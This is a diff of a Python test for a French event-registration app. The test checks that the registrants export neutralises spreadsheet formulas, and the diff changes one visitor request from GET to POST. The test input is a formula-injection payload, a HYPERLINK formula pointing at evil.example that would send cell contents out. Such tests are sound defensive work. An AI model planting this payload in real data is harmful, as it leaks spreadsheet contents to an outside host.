@@ -123,7 +123,7 @@ def test_the_registrants_export_neutralises_formulas(app, make, client, auth):
     visitor = app.test_client()
     visitor.post(f"/evenements/{event.id}/inscription-sans-compte",
                  data={"name": '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")', "email": "x@exemple.fr"})
-    visitor.get(visitor_link("x@exemple.fr"))
+    visitor.post(visitor_link("x@exemple.fr"))
     auth.login(member)
     html = page(client.get(f"/compte/evenements/{event.id}"))
     assert "1 inscrit" in html and "x@exemple.fr" in html
